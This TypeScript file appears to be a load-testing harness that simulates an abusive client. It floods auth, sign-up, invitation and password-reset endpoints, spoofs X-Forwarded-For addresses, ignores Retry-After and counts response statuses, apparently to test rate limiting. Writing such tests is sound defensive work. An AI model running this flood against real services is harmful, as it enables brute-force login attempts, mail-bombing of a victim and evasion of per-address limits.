import { randomUUID } from 'node:crypto'
import { Pool } from 'undici'

// A small botnet: connections of a few networks that sign up, guess, invite and ask for password resets as fast as they are answered, and never wait
// for Retry-After. A process of its own, so that who measures beside it has an event loop of its own. Prints how often each status came.

interface Flood {
  readonly url: string
  readonly connections: number
  readonly networks: number
  readonly seconds: number
  /** Whoever attacks has an account and an organization, too. */
  readonly attacker: { readonly token: string; readonly organization: string }
  /** An account whose owner is to be mailed. */
  readonly victim: string
}

const flood = JSON.parse(process.argv[2] ?? '') as Flood
const pool = new Pool(flood.url, { connections: flood.connections, pipelining: 1 })
const until = performance.now() + flood.seconds * 1000
const json = { 'content-type': 'application/json' }
const invite = { path: `/organizations/${flood.attacker.organization}/invitations`, authorization: `Bearer ${flood.attacker.token}` }

const ATTACKS = {
  guess: () => ({ path: '/auth', headers: { authorization: basic(`${randomUUID()}@example.org`) }, body: undefined }),
  guessVictim: () => ({ path: '/auth', headers: { authorization: basic(flood.victim) }, body: undefined }),
  signUp: () => signUp(`${randomUUID()}@flood.example`),
  signUpVictim: () => signUp(flood.victim),
  invite: () => ({
    path: invite.path,
    headers: { ...json, authorization: invite.authorization },
    body: JSON.stringify({ email: flood.victim, roles: ['member'] }),
  }),
  reset: () => ({ path: '/users/password-resets', headers: json, body: JSON.stringify({ email: flood.victim }) }),
}
const KINDS = Object.keys(ATTACKS) as (keyof typeof ATTACKS)[]

const statuses: Record<string, number> = {}
await Promise.all(Array.from({ length: flood.connections }, (_, at) => attack(at)))
await pool.close()
console.log(JSON.stringify(statuses))

async function attack(at: number): Promise<void> {
  for (let turn = at; performance.now() < until; turn++) {
    const kind = KINDS[turn % KINDS.length] ?? 'guess'
    const { path, headers, body } = ATTACKS[kind]()
    const from = { 'x-forwarded-for': `198.51.100.${at % flood.networks}` }
    const answer = await pool.request({ method: 'POST', path, headers: { ...headers, ...from }, body })
    await answer.body.dump()
    const key = `${kind} ${answer.statusCode}`
    statuses[key] = (statuses[key] ?? 0) + 1
  }
}

function basic(email: string): string {
  return `Basic ${Buffer.from(`${email}:a wrong password of 15`).toString('base64')}`
}

function signUp(email: string) {
  const billingAddress = { country: 'CH', zipCode: '1', address: 'x', state: 'x' }
  return {
    path: '/users',
    headers: json,
    body: JSON.stringify({ email, displayName: 'x', password: 'quiet otters ferry lanterns', billingAddress }),
  }
}
